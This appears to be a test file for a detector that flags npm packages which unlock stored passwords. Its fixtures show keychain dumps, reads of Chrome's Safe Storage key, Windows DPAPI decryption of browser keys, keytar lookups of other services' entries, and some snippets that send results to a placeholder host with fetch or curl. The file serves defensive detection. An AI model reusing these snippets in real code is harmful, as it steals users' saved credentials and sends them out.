import { examine } from '../../../test/examine.ts';
import { unlocksStoredPasswords } from './unlocks-stored-passwords.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
examine(unlocksStoredPasswords, {
  speaks: [
    {
      when: 'a command asks the system for the one entry that bears the whole name of the package',
      id: { name: 'specimen-keeper' },
      files: {
        'package.json': { name: 'specimen-keeper', version: '1.0.0', bin: 'b.js' },
        'b.js': `${CP} cp.execFileSync('security', ['find-generic-password', '-s', 'specimen-keeper', '-a', process.argv[2], '-w'])`,
      },
      weight: 'weak',
    },
    {
      when: 'a package in a scope asks for the entry of another that is called like it',
      id: { name: '@acme/specimen-wallet' },
      files: {
        'package.json': { name: '@acme/specimen-wallet', version: '1.0.0', bin: 'b.js' },
        'b.js': `${CP} cp.execFileSync('secret-tool', ['lookup', 'service', 'specimen-wallet'])`,
      },
      weight: 'strong',
    },
    {
      when: 'the name of the package is only where that of a browser begins',
      id: { name: 'chrome' },
      files: {
        'package.json': { name: 'chrome', version: '1.0.0', bin: 'b.js' },
        'b.js': `${CP} cp.execFileSync('security', ['find-generic-password', '-w', '-s', 'Chrome Safe Storage'])`,
      },
      weight: 'strong',
    },
    {
      when: 'its own entry is looked up, and all others after it',
      id: { name: 'specimen-keeper' },
      files: {
        'package.json': { name: 'specimen-keeper', version: '1.0.0', bin: 'b.js' },
        'b.js': `${CP} cp.execSync('security find-generic-password -s specimen-keeper -w; security dump-keychain -d')`,
      },
      weight: 'strong',
    },
    {
      when: 'its own name is no reason at import for a command either',
      id: { name: 'specimen-keeper' },
      files: {
        'package.json': { name: 'specimen-keeper', version: '1.0.0' },
        'index.js': `${CP} cp.execFileSync('secret-tool', ['lookup', 'service', 'specimen-keeper'])`,
      },
      weight: 'proof',
    },
    {
      when: 'a command reads the entries that bear its own name',
      id: { name: '@acme/specimen-cli' },
      files: {
        'package.json': { name: '@acme/specimen-cli', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('keytar').findCredentials('specimen-cli-oauth')`,
      },
      weight: 'weak',
    },
    ...(['', `; fetch('https://a.invalid')`, `; cp.execSync('curl -d @- https://a.invalid')`] as const).map(sends => ({
      when: `a command asks for the key of a browser, as its page says${sends && `, and asks a host${sends}`}`,
      files: {
        'package.json': { name: 'x', version: '1.0.0', bin: 'b.js' },
        'README.md':
          'Reads the cookies of one site from the database of Chrome, so that your scripts can ask for what you see when you have logged in there.',
        'b.js': `${CP} cp.execSync('security find-generic-password -wa "Chrome"')${sends}`,
      },
      weight: sends ? ('strong' as const) : ('weak' as const),
    })),
    {
      when: 'Windows decrypts a file in the folder that bears the name of the command',
      files: {
        'package.json': { name: 'specimen-cli', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${CP} const asked = cp.spawn('powershell.exe', ['-NoProfile', '-Command', "$b=[Convert]::FromBase64String([Console]::In.ReadLine()); [Convert]::ToBase64String([Security.Cryptography.ProtectedData]::Unprotect($b,$null,'CurrentUser'))"]); asked.stdin.end(fs.readFileSync(path.join(os.homedir(), '.specimen', 'key.dpapi')) + '\\n'); asked.stdout.on('data', out => console.log(String(out))); fetch('https://a.invalid/');`,
      },
      weight: 'weak',
    },
    {
      when: 'it decrypts one of another folder',
      files: {
        'package.json': { name: 'specimen-cli', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `${CP} const asked = cp.spawn('powershell.exe', ['-NoProfile', '-Command', "$b=[Convert]::FromBase64String([Console]::In.ReadLine()); [Convert]::ToBase64String([Security.Cryptography.ProtectedData]::Unprotect($b,$null,'CurrentUser'))"]); asked.stdin.end(fs.readFileSync(path.join(os.homedir(), '.inert', 'key.dpapi')) + '\\n'); asked.stdout.on('data', out => console.log(String(out))); fetch('https://a.invalid/');`,
      },
      weight: 'strong',
    },
    {
      when: 'a command reads the entries of another',
      id: { name: '@acme/specimen-cli' },
      files: {
        'package.json': { name: '@acme/specimen-cli', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('keytar').findCredentials('specimen-wallet')`,
      },
      weight: 'strong',
    },
    {
      when: 'its own name is no reason at import',
      id: { name: '@acme/specimen-cli' },
      files: {
        'package.json': { name: '@acme/specimen-cli', version: '1.0.0' },
        'index.js': `require('keytar').findCredentials('specimen-cli-oauth')`,
      },
      weight: 'proof',
    },
    {
      when: 'a command takes the entries of whatever service its code says elsewhere',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('./store').open(require('./settings').name()).all()`,
        'settings.js': `exports.name = () => JSON.parse(require('fs').readFileSync('a.json', 'utf8')).name;`,
        'store.js': `class Store { constructor(service) { this.service = service; } all() { return require('keytar').findCredentials(this.service); } } exports.open = service => new Store(service);`,
      },
      weight: 'weak',
    },
    {
      when: 'a command takes the entries of a service that is written in its code',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('keytar').findCredentials('Inert Wallet')`,
      },
      weight: 'strong',
    },
    {
      when: 'another library takes all entries',
      files: {
        'index.js': `const { findCredentials } = require('@napi-rs/keyring'); exports.all = findCredentials('service');`,
      },
    },
    {
      when: 'the keychain is asked for the key of a browser',
      files: { 'index.js': `${CP} cp.execSync('security find-generic-password -wa "Chrome"')` },
      weight: 'proof',
    },
    {
      when: 'Windows is asked to decrypt',
      files: { 'index.js': `${CP} cp.execSync('powershell [System.Security.Cryptography.ProtectedData]::Unprotect($x)')` },
      weight: 'proof',
    },
    {
      when: 'a store is read and decrypted',
      files: {
        'index.js': `${CP} const key = fs.readFileSync(os.homedir() + '/AppData/Local/Google/Chrome/User Data/Local State'); require('win-dpapi').unprotectData(key, null, 'CurrentUser')`,
      },
      weight: 'proof',
      says: ['decrypts'],
    },
    { when: 'all entries are taken', files: { 'index.js': `require('keytar').findCredentials('inert')` }, weight: 'proof' },
    {
      when: 'each system has a program that looks up the entry of the service that its scope is called after',
      id: { name: '@specimen-cloud/login' },
      files: {
        'package.json': { name: '@specimen-cloud/login', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\n${CP} const words = ['find-generic-password', '-s', 'specimen-cloud-cli', '-a', process.env.PROFILE || 'default', '-w']; cp.spawn(process.platform === 'darwin' ? '/usr/bin/security' : 'secret-tool', words, { windowsHide: true });`,
      },
      weight: 'weak',
    },
    {
      when: 'a helper that says it is one looks up the entry that a user names on the command line',
      files: {
        'package.json': { bin: 'cli.js', description: 'Keychain and keyring for command lines' },
        'cli.js': `const { execFileSync } = require('child_process'), [, , service, account] = process.argv; const tools = {
          darwin: ['security', ['find-generic-password', '-s', service, '-a', account, '-w']], linux: ['secret-tool', ['lookup', 'service', service, 'account', account]] };
          console.log(execFileSync(...tools[process.platform]).toString())`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'one entry of its own is looked up',
      files: { 'index.js': `exports.get = () => require('keytar').getPassword('specimen', 'me')` },
    },
    {
      when: 'its own file is decrypted',
      files: {
        'index.js': `${CP} const c = require('crypto'); c.createDecipheriv('aes-256-gcm', 'k', 'i').update(fs.readFileSync('own.bin'))`,
      },
    },
    {
      when: 'an identity is looked up for signing',
      files: { 'index.js': `${CP} exports.sign = () => cp.execSync('security find-identity -v -p codesigning')` },
    },
  ],
});
